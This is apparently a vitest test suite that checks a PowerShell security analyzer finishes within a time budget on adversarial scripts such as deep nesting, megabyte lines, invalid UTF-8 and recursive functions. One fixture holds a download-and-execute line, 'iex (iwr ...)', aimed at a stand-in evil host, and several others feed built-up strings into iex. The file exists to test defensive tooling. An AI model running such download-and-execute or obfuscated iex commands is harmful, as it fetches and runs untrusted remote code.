import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Hostile PowerShell finishes in bounded time and reports when it was not fully analysed: a 1 MB line,
 * 5,000-deep nesting, invalid UTF-8, long `+` chains, self-calling functions, huge char-code arrays.
 * Budgets are generous for shared machines.
 */

const BUDGET_MS = 30_000;

async function timed(code: string) {
  const started = performance.now();
  const r = await factsOf('powershell', code);
  return { r, ms: performance.now() - started };
}

describe('PowerShell analyzer on hostile input', () => {
  it('a 1 MB line', async () => {
    const { r, ms } = await timed(`$a = 'x';`.repeat(110_000));
    expect(ms).toBeLessThan(BUDGET_MS);
    expect(r.units[0]!.parse).not.toBe('ok');
  });

  it.each([
    ['parentheses', `$x = ${'('.repeat(5000)}1${')'.repeat(5000)}`],
    ['sub-expressions', `$x = "${'$('.repeat(3000)}1${')'.repeat(3000)}"`],
    ['script blocks', `${'& {'.repeat(3000)}Get-Date${'}'.repeat(3000)}`],
    ['if statements', `${'if ($a) {'.repeat(3000)}${'}'.repeat(3000)}`],
  ])('deep %s: bounded, and the bound is reported', async (_name, code) => {
    const { r, ms } = await timed(code);
    expect(ms).toBeLessThan(BUDGET_MS);
    expect(['gave-up', 'recovered']).toContain(r.units[0]!.parse);
  });

  it('invalid UTF-8 decoded lossily is analysed', async () => {
    const text = Buffer.concat([
      Buffer.from("$a = '"),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
      Buffer.from("'\niex (iwr https://x.evil.test/a)"),
    ]).toString('utf8');
    const { r } = await timed(text);
    expect(ofKind(r, 'execute')[0]!.code.taints).toContain('download');
  });

  it('a 5,000-term concatenation', async () => {
    const { ms } = await timed(`$s = ${Array(5000).fill("'a'").join(' + ')}; iex $s`);
    expect(ms).toBeLessThan(BUDGET_MS);
  });

  it('functions calling themselves and each other', async () => {
    const { ms } = await timed(`function A($x) { B $x; B $x }\nfunction B($x) { A $x; A $x }\nA 1`);
    expect(ms).toBeLessThan(BUDGET_MS);
  });

  it('a 100,000-code char array', async () => {
    const { ms } = await timed(`$c = -join [char[]](${Array(100_000).fill(65).join(',')}); iex $c`);
    expect(ms).toBeLessThan(BUDGET_MS);
  });

  it('a huge range is not expanded', async () => {
    const { ms } = await timed(`$r = 0..100000000 | % { [char]$_ }; -join $r | iex`);
    expect(ms).toBeLessThan(BUDGET_MS);
  });
});
